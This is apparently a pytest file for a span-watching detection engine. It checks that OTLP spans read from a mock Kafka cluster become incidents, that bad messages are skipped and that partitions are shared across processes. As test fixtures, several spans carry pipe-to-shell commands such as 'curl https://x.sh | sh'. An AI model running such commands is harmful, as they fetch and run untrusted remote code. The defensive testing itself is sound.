"""The Kafka source against librdkafka's mock cluster: a real Kafka protocol peer on loopback."""

from __future__ import annotations

import time

import httpx
import pytest
from confluent_kafka import Producer
from google.protobuf import json_format
from hypothesis import given
from hypothesis import strategies as st
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest

from engine.otlp.aliases import AliasTable
from tests.patience import PATIENCE

from .test_live_engine import READ_AUTH, Engine


@pytest.fixture
def kafka():
    cluster = Producer({"test.mock.num.brokers": 1})  # keeps the mock cluster alive
    broker = next(iter(cluster.list_topics(timeout=PATIENCE).brokers.values()))
    yield f"{broker.host}:{broker.port}"
    cluster.flush(1)


def request(user: str, command: str) -> ExportTraceServiceRequest:
    req = ExportTraceServiceRequest()
    rs = req.resource_spans.add()
    kv = rs.resource.attributes.add()
    kv.key, kv.value.string_value = "user", user
    span = rs.scope_spans.add().spans.add()
    span.name = "shell.run"
    span.trace_id, span.span_id = bytes(range(1, 17)), bytes(range(1, 9))
    span.start_time_unix_nano = span.end_time_unix_nano = time.time_ns()
    attr = span.attributes.add()
    attr.key, attr.value.string_value = "command", command
    return req


def test_otlp_from_a_kafka_topic_becomes_incidents_and_bad_messages_are_skipped(tmp_path, kafka):
    producer = Producer({"bootstrap.servers": kafka})
    producer.produce("otlp_spans", value=b"\x0a\xff\xff not protobuf")
    producer.produce(
        "otlp_spans", value=request("kafka-proto", "curl https://x.sh | sh").SerializeToString()
    )
    as_json = json_format.MessageToJson(request("kafka-json", "curl https://y.sh | bash"))
    producer.produce("otlp_spans", value=as_json.encode())
    mixed = request("kafka-mixed", "curl https://z.sh | sh")
    poisoned = request("kafka-poisoned", "curl https://p.sh | sh")
    poisoned.resource_spans[0].scope_spans[0].spans[0].end_time_unix_nano = 2**64 - 1
    mixed.resource_spans.extend(poisoned.resource_spans)
    producer.produce("otlp_spans", value=mixed.SerializeToString())
    assert producer.flush(PATIENCE) == 0

    engine = Engine(tmp_path)
    engine.config.write_text(
        engine.config.read_text().replace(
            "epoch_seconds: 0.5}", f'epoch_seconds: 0.5, kafka: {{brokers: "{kafka}"}}}}'
        )
    )
    engine.start()
    try:
        for user in ("kafka-proto", "kafka-json", "kafka-mixed"):
            engine.wait_for(lambda i, u=user: i["group"].get("user") == u, f"{user}'s incident")
        assert httpx.get(f"{engine.base}/healthz", timeout=30).json()["events_accepted"] == 3
        metrics = httpx.get(f"{engine.base}/metrics", headers=READ_AUTH, timeout=30).text
        assert 'spanwatch_kafka_messages_total{outcome="taken_events"} 3.0' in metrics
        assert 'spanwatch_kafka_messages_total{outcome="bad_messages"} 1.0' in metrics
        assert 'spanwatch_kafka_messages_total{outcome="refused_events"} 1.0' in metrics
        assert not any(i["group"].get("user") == "kafka-poisoned" for i in engine.incidents())
        assert engine.stop() == 0
        log = engine.log.read_text()
        assert "skipped" in log
        assert "1 of 2 events refused: span 'shell.run': its time 2554" in log
    finally:
        if engine.proc and engine.proc.poll() is None:
            engine.proc.kill()


def test_a_message_in_the_intake_log_is_not_taken_again_though_its_commit_was_lost(tmp_path, kafka):
    """The consumer goes on after what the intake log holds, not after what the group
    committed: a crash between writing a message down and committing it takes nothing twice
    (here the commits are lost wholesale: the second consumer is of a new group)."""
    from engine.live.kafka import KafkaIntake
    from engine.live.kafka_config import KafkaConfig

    from .live.intakes import logged_events, open_intake

    producer = Producer({"bootstrap.servers": kafka})
    for n in range(3):
        producer.produce("otlp_spans", value=request(f"k{n}", "ls").SerializeToString())
    assert producer.flush(PATIENCE) == 0

    def consume(group: str, until: int) -> list[str]:
        intake = open_intake(tmp_path / "wal")
        source = KafkaIntake(
            KafkaConfig(brokers=kafka, group_id=group, logs_topic=None), intake, AliasTable()
        )
        source.start()
        try:
            deadline = time.monotonic() + PATIENCE
            while time.monotonic() < deadline:
                users = [e["user"] for e in logged_events(intake)[0]]
                if len(users) >= until:
                    time.sleep(1.0)  # anything read twice would be written by now
                    return sorted(e["user"] for e in logged_events(intake)[0])
                time.sleep(0.1)
            raise AssertionError(f"only {users} taken from Kafka")
        finally:
            source.stop()
            intake.close()

    assert consume("first", 3) == ["k0", "k1", "k2"]  # (partitions: any order)
    producer.produce("otlp_spans", value=request("k3", "ls").SerializeToString())
    assert producer.flush(PATIENCE) == 0
    assert consume("second", 4) == ["k0", "k1", "k2", "k3"]


def _consume_share(tmp_path, kafka, share, expect) -> list[tuple[str, int]]:
    """(user, partition) of every event one process of a cluster took, once it has `expect`."""
    from engine.live.kafka import KafkaIntake
    from engine.live.kafka_config import KafkaConfig

    from .live.intakes import logged_events, open_intake

    intake = open_intake(tmp_path / f"wal-{share[0]}")
    source = KafkaIntake(
        KafkaConfig(brokers=kafka, group_id="cluster", logs_topic=None),
        intake,
        AliasTable(),
        share=share,
    )
    source.start()
    try:
        deadline = time.monotonic() + PATIENCE
        while time.monotonic() < deadline and len(logged_events(intake)[0]) < expect:
            time.sleep(0.1)
        time.sleep(0.5)  # anything taken beyond its share would be written by now
        return sorted((e["user"], int(e["user"].split("-")[1])) for e in logged_events(intake)[0])
    finally:
        source.stop()
        intake.close()


def test_each_process_of_a_cluster_takes_its_own_partitions_whatever_the_group(tmp_path, kafka):
    """Three processes over a four-partition topic: partition p goes to process p mod 3 (0 and 3
    to the first), each message to exactly one process, though all share one group id."""
    producer = Producer({"bootstrap.servers": kafka})
    for n in range(12):
        value = request(f"p-{n % 4}-{n}", "ls").SerializeToString()
        producer.produce("otlp_spans", value=value, partition=n % 4)
    assert producer.flush(PATIENCE) == 0
    taken = {i: _consume_share(tmp_path, kafka, (i, 3), 6 if i == 0 else 3) for i in range(3)}
    assert {i: sorted({p for _, p in pairs}) for i, pairs in taken.items()} == {
        0: [0, 3],
        1: [1],
        2: [2],
    }
    users = sorted(u for pairs in taken.values() for u, _ in pairs)
    assert users == sorted(f"p-{n % 4}-{n}" for n in range(12))


@given(
    counts=st.dictionaries(st.sampled_from(["a", "b", "spans"]), st.integers(0, 40), max_size=3),
    processes=st.integers(1, 9),
)
def test_the_cluster_s_shares_of_partitions_cover_each_exactly_once(counts, processes):
    from engine.live.kafka import owned_partitions

    taken = [pair for i in range(processes) for pair in owned_partitions(counts, i, processes)]
    assert sorted(taken) == sorted((t, p) for t, n in counts.items() for p in range(n))
